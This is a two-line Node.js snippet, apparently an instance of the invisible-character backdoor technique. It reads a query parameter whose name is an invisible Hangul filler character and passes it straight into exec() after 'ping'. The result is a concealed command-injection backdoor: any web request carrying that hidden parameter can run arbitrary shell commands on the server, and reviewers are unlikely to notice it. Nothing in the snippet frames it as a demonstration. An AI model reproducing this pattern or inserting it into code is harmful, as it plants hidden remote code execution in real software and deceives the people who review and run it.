const { timeout, ㅤ } = req.query;
exec(['ping', ㅤ].join(' '));
